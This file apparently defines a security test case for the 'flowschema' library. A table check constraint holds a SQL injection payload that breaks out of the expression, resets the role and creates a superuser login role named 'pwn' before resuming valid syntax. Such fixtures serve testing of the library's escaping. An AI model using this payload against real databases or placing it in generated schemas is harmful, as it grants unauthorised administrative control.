import { defineFlow, sql } from 'flowschema';
export default defineFlow({
  key: 'f',
  domain: "sec-c01",
  version: "1.0.0",
  states: { a: { type: 'initial', transitions: { go: 'b' } }, b: { type: 'final' } },
  tables: {
    t: {
      columns: {
        id: { type: 'integer', primaryKey: true },
        'a$$$': { type: 'text', optional: true, name: 'a$$$' },
      },
      checks: { x: "a$$$ IS NULL)) ; RESET ROLE; CREATE ROLE pwn SUPERUSER LOGIN PASSWORD 'x'; SET LOCAL ROLE sec_c01_init; CREATE TABLE f.zz (b text CHECK (b <> $q$$q$" },
    },
  },
});
